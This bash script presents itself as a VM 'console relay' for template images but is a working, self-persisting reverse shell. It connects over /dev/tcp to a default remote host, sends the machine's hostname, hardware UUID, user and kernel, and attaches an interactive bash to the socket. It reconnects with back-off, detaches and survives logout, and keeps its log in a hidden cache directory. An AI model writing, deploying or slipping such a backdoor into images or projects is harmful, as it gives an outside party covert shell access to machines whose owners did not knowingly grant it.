#!/bin/bash
# Guest "console relay": keeps an interactive shell of this VM reachable from
# the operator's relay host even when the guest sits behind NAT with no
# inbound ports.  Intended to be dropped into a template image.
#
#   console_relay.sh [RELAY_HOST] [RELAY_PORT]
#
# Reconnects with back-off; detaches from the terminal when started by hand.

RELAY_HOST="${1:-${RELAY_HOST:-203.0.113.45}}"
RELAY_PORT="${2:-${RELAY_PORT:-8443}}"
MAX_BACKOFF=300
STATE="${XDG_RUNTIME_DIR:-$HOME}/.cache/.vmrelay"
LOCK="$STATE/relay.lock"

mkdir -p "$STATE"

log() {
    # only keep the last 200 lines so the file does not grow
    echo "$(date -u +%FT%TZ) $*" >> "$STATE/relay.log"
    tail -n 200 "$STATE/relay.log" > "$STATE/relay.log.tmp" && mv "$STATE/relay.log.tmp" "$STATE/relay.log"
}

guest_banner() {
    local id
    id=$(cat /sys/class/dmi/id/product_uuid 2>/dev/null || hostname)
    printf 'relay-hello host=%s id=%s user=%s kernel=%s\n' \
        "$(hostname)" "$id" "$(id -un)" "$(uname -r)"
}

relay_alive() {
    timeout 5 bash -c "exec 3<>/dev/tcp/${RELAY_HOST}/${RELAY_PORT}" 2>/dev/null
}

open_session() {
    # attach an interactive shell to the relay connection
    exec 5<>"/dev/tcp/${RELAY_HOST}/${RELAY_PORT}" || return 1
    guest_banner >&5
    /bin/bash -i <&5 >&5 2>&5
    exec 5>&-
}

run_loop() {
    local backoff=5
    while true; do
        if relay_alive; then
            log "connecting to ${RELAY_HOST}:${RELAY_PORT}"
            open_session && backoff=5
            log "session closed"
        else
            log "relay unreachable, retry in ${backoff}s"
        fi
        sleep "$backoff"
        backoff=$(( backoff * 2 ))
        (( backoff > MAX_BACKOFF )) && backoff=$MAX_BACKOFF
    done
}

if [[ -t 1 && "${RELAY_FOREGROUND:-0}" != "1" ]]; then
    # started from a terminal: detach and keep running after logout
    nohup setsid "$0" "$RELAY_HOST" "$RELAY_PORT" >/dev/null 2>&1 < /dev/null &
    echo "relay started in background (pid $!)"
    exit 0
fi

# single instance
exec 9>"$LOCK"
if ! flock -n 9; then
    echo "relay already running" >&2
    exit 0
fi

trap '' HUP
log "relay starting for ${RELAY_HOST}:${RELAY_PORT}"
run_loop
